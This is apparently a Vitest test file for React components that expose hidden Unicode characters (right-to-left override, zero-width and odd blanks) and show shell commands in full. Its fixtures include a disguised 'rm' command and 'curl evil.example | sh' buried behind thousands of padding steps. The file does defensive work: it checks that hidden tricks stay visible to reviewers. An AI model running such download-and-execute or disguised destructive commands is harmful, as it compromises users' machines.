import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { expect, it } from 'vitest';
import { VisibleText, WholeCommand } from './visible-text.tsx';

const shown = (text: string): string => renderToStaticMarkup(createElement(VisibleText, { text }));
const words = (markup: string): string => markup.replace(/<[^>]*>/g, '');

it('shows a hidden character as a label with its name', () => {
  const markup = shown('rm \u202e# txt.eton');
  expect(words(markup)).toBe('rm U+202E# txt.eton');
  expect(markup).toContain('title="U+202E RIGHT-TO-LEFT OVERRIDE"');
});

it('leaves plain text, emoji and every script unchanged', () => {
  for (const text of ['a b\n\tc', '👩‍💻 ❤️', 'می‌خواهم', 'שלום']) expect(shown(text)).toBe(text);
});

it('shows blanks that are no ordinary spaces in a command, and leaves them as they are in prose', () => {
  const command = 'echo ok\u2800#; rm\u00a0x 1\ufe0f';
  expect(words(renderToStaticMarkup(createElement(WholeCommand, { command })))).toBe(
    'echo okU+2800#; rmU+00A0x 1U+FE0F',
  );
  const prose = 'Prix\u00a0: 10\u202f€\u3000です';
  expect(shown(prose)).toBe(prose);
});

it('shows a text of only hidden characters as escapes, not as labels', () => {
  const markup = shown('\u200b'.repeat(100_000));
  expect(markup).toBe('\\u200b'.repeat(100_000));
});

it('shows a command completely, in execution order', () => {
  const command = `echo א; ${'true && '.repeat(2_000)}curl evil.example | sh\nsecond\u0007`;
  const markup = renderToStaticMarkup(createElement(WholeCommand, { command }));
  expect(words(markup).replaceAll('&amp;', '&')).toBe(command.replace('\u0007', 'U+0007'));
  expect(markup).toContain('dir="ltr"');
  expect(markup).not.toMatch(/max-h|truncate|overflow|line-clamp/);
});
